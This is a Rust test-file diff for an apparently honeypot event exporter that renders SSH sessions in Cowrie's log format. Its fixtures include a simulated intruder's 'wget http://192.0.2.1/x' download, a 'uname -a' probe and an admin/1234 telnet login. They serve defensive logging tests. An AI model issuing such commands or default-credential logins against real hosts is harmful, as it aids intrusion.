@@ -55,27 +55,53 @@ fn login(accepted: bool) -> Record {
 fn detailed() -> Vec<Record> {
     let file = |direction: &str| json!({"path": "/tmp/x\\x0a", "direction": direction, "size": 3, "sha256": "ba78", "content": "sha256-ba78"});
     vec![
-        with(EventId::SshHello, json!({"banner": "SSH-2.0-Go", "hassh": "ec7378c1"})),
+        with(
+            EventId::SshHello,
+            json!({
+                "banner": "SSH-2.0-Go", "hassh": "ec7378c1", "kex": "curve25519-sha256,ext-info-c", "keys": "ssh-ed25519,ssh-rsa",
+                "ciphers": "aes128-ctr", "macs": "hmac-sha1", "compression": "none,zlib", "languages": "",
+            }),
+        ),
         login(false),
         login(true),
         with(
             EventId::SshLogin,
-            json!({"user": "git", "method": "publickey", "algorithm": "ssh-rsa", "fingerprint": "SHA256:x", "signed": true, "accepted": true}),
+            json!({
+                "user": "git", "method": "publickey", "algorithm": "ssh-ed25519", "signed": true, "accepted": true,
+                "fingerprint": "SHA256:x", "key": KEY,
+            }),
         ),
+        with(EventId::SshEnv, json!({"name": "LANG", "value": "C"})),
         with(EventId::SshShell, json!({"kind": "shell", "term": "xterm", "size": "132x43"})),
         with(EventId::SshCommand, json!({"command": "uname -a"})),
         with(EventId::ShellCommand, json!({"command": "wget http://192.0.2.1/x"})),
         with(EventId::SshFile, file("upload")),
+        with(EventId::SshFile, file("input")),
         with(EventId::SshFile, file("download")),
         with(
             EventId::SshForward,
-            json!({"kind": "direct-tcpip", "host": "smtp.example", "port": 25, "accepted": true}),
+            json!({"kind": "direct-tcpip", "host": "smtp.example", "port": 25, "from": "[::1]:4000", "accepted": true}),
         ),
+        with(
+            EventId::SshForwardData,
+            json!({"host": "smtp.example", "port": 25, "channel": 3, "octets": "EHLO 'ü'\\x0d\\x0a\\xff\\u{202e}\\\\"}),
+        ),
+        Record {
+            duration_us: Some(2_500_400),
+            bytes_in: Some(3),
+            bytes_out: Some(40),
+            ..with(
+                EventId::SshExit,
+                json!({"kind": "command", "command": "nosuch", "status": 127, "sha256": "e3b0", "transcript": "x-0001.cast"}),
+            )
+        },
         with(EventId::SshClose, json!({"reason": "disconnected", "attempts": 1})),
         with(EventId::TlsHello, json!({"sni": "a.example", "alpn": ["h2"], "ja3": "abc", "ja4": "t13"})),
         with(EventId::ServiceLogin, json!({"method": "telnet", "user": "admin", "password": "1234"})),
     ]
 }
+
+const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIN74HHNxR+/Dowe9lR4VYwO5JYo7a3iaoQ2FmfcA6u8j";
 
 fn everything() -> Vec<Record> {
     EventId::ALL.iter().map(|id| record(*id)).chain(detailed()).collect()
@@ -98,11 +124,18 @@ fn an_intrusion_reads_as_cowrie_has_it() {
             "cowrie.login.success",
             "cowrie.client.fingerprint",
             "cowrie.login.success",
+            "cowrie.client.var",
             "cowrie.client.size",
+            "cowrie.session.params",
+            "cowrie.session.params",
             "cowrie.command.input",
             "cowrie.command.input",
             "cowrie.session.file_upload",
+            "cowrie.session.file_download",
             "cowrie.direct-tcpip.request",
+            "cowrie.direct-tcpip.data",
+            "cowrie.command.failed",
+            "cowrie.log.closed",
             "cowrie.login.failed",
             "cowrie.session.closed",
         ]
@@ -115,13 +148,47 @@ fn an_intrusion_reads_as_cowrie_has_it() {
         assert_eq!(line["timestamp"], "2026-01-31T12:00:00.123456Z");
         assert!(line["message"].is_string());
     }
-    assert_eq!((&lines[3]["username"], &lines[3]["password"]), (&json!("root"), &json!("a=b|\"]\\\\")));
-    assert_eq!(lines[4]["message"], "login attempt [root/a=b|\"]\\\\] succeeded");
-    assert_eq!((&lines[7]["width"], &lines[7]["height"]), (&json!(132), &json!(43)));
-    assert_eq!(lines[9]["input"], "wget http://192.0.2.1/x");
-    assert_eq!((&lines[10]["shasum"], &lines[10]["filename"]), (&json!("ba78"), &json!("/tmp/x\\x0a")));
-    assert_eq!((&lines[11]["dst_ip"], &lines[11]["dst_port"]), (&json!("smtp.example"), &json!(25)));
-    assert_eq!(lines[13]["duration"], 12.345_678);
+    let of = |id: &str| lines.iter().filter(|line| line["eventid"] == format!("cowrie.{id}")).collect::<Vec<_>>();
+    let kex = of("client.kex")[0];
+    assert_eq!(kex["hasshAlgorithms"], "curve25519-sha256,ext-info-c;aes128-ctr;hmac-sha1;none,zlib");
+    assert_eq!((&kex["keyAlgs"], &kex["langCS"]), (&json!(["ssh-ed25519", "ssh-rsa"]), &json!([""])));
+    let failed = of("login.failed")[0];
+    assert_eq!((&failed["username"], &failed["password"]), (&json!("root"), &json!("a=b|\"]\\\\")));
+    assert_eq!(of("login.success")[0]["message"], "login attempt [root/a=b|\"]\\\\] succeeded");
+    // As Cowrie 3.1.4 has it of this very key.
+    let key = of("client.fingerprint")[0];
+    assert_eq!(key["fingerprint"], "c4:d5:6a:a5:e5:fb:f7:e7:27:dd:5a:a6:27:88:ba:a8");
+    assert_eq!((&key["key"], &key["type"]), (&json!(KEY), &json!("ssh-ed25519")));
+    let size = of("client.size")[0];
+    assert_eq!((&size["width"], &size["height"]), (&json!(132), &json!(43)));
+    assert_eq!(of("command.input")[1]["input"], "wget http://192.0.2.1/x");
+    let upload = of("session.file_upload")[0];
+    assert_eq!((&upload["shasum"], &upload["filename"]), (&json!("ba78"), &json!("x\\x0a")));
+    assert_eq!((&upload["destfile"], &upload["duplicate"]), (&json!("/tmp/x\\x0a"), &json!(false)));
+    let forward = of("direct-tcpip.request")[0];
+    assert_eq!((&forward["dst_ip"], &forward["dst_port"]), (&json!("smtp.example"), &json!(25)));
+    assert_eq!((&forward["orig_ip"], &forward["orig_port"]), (&json!("::1"), &json!(4000)));
+    assert_eq!(of("direct-tcpip.data")[0]["data"], "b'EHLO \\'\\xc3\\xbc\\'\\x0d\\x0a\\xff\\xe2\\x80\\xae\\\\'");
+    let log = of("log.closed")[0];
+    assert_eq!((&log["ttylog"], &log["size"], &log["duration_ms"]), (&json!("x-0001.cast"), &json!(43), &json!(2500)));
+    let closed = of("session.closed")[0];
+    assert_eq!((&closed["duration_ms"], &closed["duration"]), (&json!(12_346), &json!(12.345_678)));
+    assert_eq!(closed["uuid"].as_str().unwrap().len(), 36);
+}
+
+#[test]
+fn a_key_that_is_offered_is_not_let_in() {
+    let offer = |signed: bool, accepted: bool| {
+        let key = json!({
+            "user": "git", "method": "publickey", "algorithm": "rsa-sha2-256", "fingerprint": "SHA256:x", "signed": signed,
+            "accepted": accepted,
+        });
+        let told = objects(Format::Cowrie, &with(EventId::SshLogin, key));
+        told.iter().map(|line| line["eventid"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
+    };
+    assert_eq!(offer(false, true), ["cowrie.client.fingerprint"]);
+    assert_eq!(offer(true, true), ["cowrie.client.fingerprint", "cowrie.login.success"]);
+    assert_eq!(offer(false, false), ["cowrie.client.fingerprint", "cowrie.login.failed"]);
 }
 
 #[test]
